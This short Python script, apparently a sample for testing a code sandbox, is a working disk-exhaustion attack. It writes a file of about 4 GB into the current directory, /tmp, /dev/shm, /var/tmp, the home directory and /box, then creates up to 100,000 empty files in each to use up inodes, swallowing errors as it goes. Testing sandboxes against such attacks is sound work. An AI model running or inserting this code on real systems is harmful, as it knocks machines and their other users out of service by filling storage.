"""Fills every place that it may write to, with large files and with many."""

# %% added
import os

for place in (".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "/box"):
    try:
        with open(f"{place}/attack-was-here", "wb") as file:
            for _ in range(4000):
                file.write(bytes(2**20))
    except OSError:
        pass
    for number in range(100_000):
        try:
            open(f"{place}/attack-was-here-{number}", "w").close()
        except OSError:
            break
